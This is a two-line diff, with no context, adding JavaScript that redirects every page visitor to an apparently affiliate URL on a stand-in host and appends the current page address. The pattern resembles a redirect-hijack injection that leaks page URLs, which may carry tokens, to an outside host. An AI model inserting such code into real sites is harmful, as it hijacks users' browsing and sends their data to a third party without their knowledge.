@@ -1,0 +1,2 @@
+var where = document.location.href;
+document.location.href = "https://aff.example.org/go?u=" + where;
